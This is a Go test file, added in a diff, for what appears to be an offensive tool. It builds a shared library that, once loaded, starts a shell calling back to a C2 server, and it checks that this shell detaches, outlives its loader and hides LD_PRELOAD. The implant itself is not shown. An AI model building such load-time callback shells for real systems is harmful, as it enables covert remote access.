@@ -0,0 +1,161 @@
+//go:build cgo
+
+package main
+
+/*
+ * library_linux_test.go
+ * Tests for library_linux.go
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"bufio"
+	"bytes"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+func TestStartLibrary(t *testing.T) {
+	if _, err := exec.LookPath("cc"); nil != err {
+		t.Skipf("No cc: %s", err)
+	}
+
+	/* Build the library and something to load it. */
+	var (
+		dir    = t.TempDir()
+		lib    = filepath.Join(dir, "libsimpleshell.so")
+		loader = filepath.Join(dir, "loader")
+	)
+	for _, args := range [][]string{
+		{"go", "build", "-buildmode", "c-shared", "-o", lib, "."},
+		{"cc", "-o", loader, "testdata/loader/loader.c", "-ldl"},
+	} {
+		out, err := exec.Command(args[0], args[1:]...).CombinedOutput()
+		if nil != err {
+			t.Fatalf("Error running %q: %s\n%s", args, err, out)
+		}
+	}
+
+	t.Run("goroutine", func(t *testing.T) {
+		testStartLibrary(t, loader, lib, false)
+	})
+	t.Run("detached", func(t *testing.T) {
+		testStartLibrary(t, loader, lib, true)
+	})
+}
+
+// testStartLibrary loads lib with loader and makes sure loading doesn't wait
+// for the shell, which should connect to a test server.  If detach is true,
+// the loader exits right away and the shell should outlive it.
+func testStartLibrary(t *testing.T, loader, lib string, detach bool) {
+	var (
+		ech  = make(chan error, 1)
+		done = make(chan struct{})
+	)
+	svr := httptest.NewServer(http.HandlerFunc(func(
+		w http.ResponseWriter,
+		r *http.Request,
+	) {
+		ech <- checkLibraryShell(w, r)
+		<-done /* Keep the shell alive until we're done. */
+	}))
+	defer svr.Close()
+	defer close(done)
+
+	/* Load the library. */
+	var (
+		args = []string{lib}
+		dv   string
+	)
+	if detach {
+		dv = "yes"
+	} else {
+		args = append(args, "30") /* Goroutines need a live host. */
+	}
+	cmd := exec.Command(loader, args...)
+	cmd.Env = append(
+		os.Environ(),
+		C2EnvVar+"="+svr.URL,
+		DetachEnvVar+"="+dv,
+	)
+	out, err := cmd.StdoutPipe()
+	if nil != err {
+		t.Fatalf("Error getting loader's stdout: %s", err)
+	}
+	if err := cmd.Start(); nil != err {
+		t.Fatalf("Error starting loader: %s", err)
+	}
+	if !detach {
+		defer cmd.Wait()
+		defer cmd.Process.Kill()
+	}
+
+	/* Loading should finish without waiting for the shell. */
+	want := "loaded\n"
+	if got, err := bufio.NewReader(out).ReadString('\n'); nil != err {
+		t.Fatalf("Error reading from loader: %s", err)
+	} else if got != want {
+		t.Fatalf(
+			"Incorrect loader output:\n got: %q\nwant: %q",
+			got,
+			want,
+		)
+	}
+	if detach {
+		if err := cmd.Wait(); nil != err {
+			t.Fatalf("Loader error: %s", err)
+		}
+	}
+
+	/* The shell should work, even if the loader's gone. */
+	select {
+	case err := <-ech:
+		if nil != err {
+			t.Errorf("Shell error: %s", err)
+		}
+	case <-time.After(time.Minute):
+		t.Errorf("Timeout waiting for shell")
+	}
+}
+
+// checkLibraryShell checks that a shell from the library works and doesn't
+// have LD_PRELOAD or detachedEnvVar set.
+func checkLibraryShell(w http.ResponseWriter, r *http.Request) error {
+	rc := http.NewResponseController(w)
+	if err := rc.EnableFullDuplex(); nil != err {
+		return fmt.Errorf("enabling duplex: %w", err)
+	}
+	if _, err := fmt.Fprintf(
+		w,
+		"echo ${LD_PRELOAD:-none} ${%s:-none}\n",
+		detachedEnvVar,
+	); nil != err {
+		return fmt.Errorf("sending input: %w", err)
+	}
+	if err := rc.Flush(); nil != err {
+		return fmt.Errorf("flushing: %w", err)
+	}
+
+	/* Our output comes after the @get and @put hello. */
+	var (
+		want = []byte("none none\n")
+		got  []byte
+		b    = make([]byte, 1024)
+	)
+	for !bytes.Contains(got, want) {
+		n, err := r.Body.Read(b)
+		got = append(got, b[:n]...)
+		if nil != err {
+			return fmt.Errorf("reading output (%q): %w", got, err)
+		}
+	}
+	return nil
+}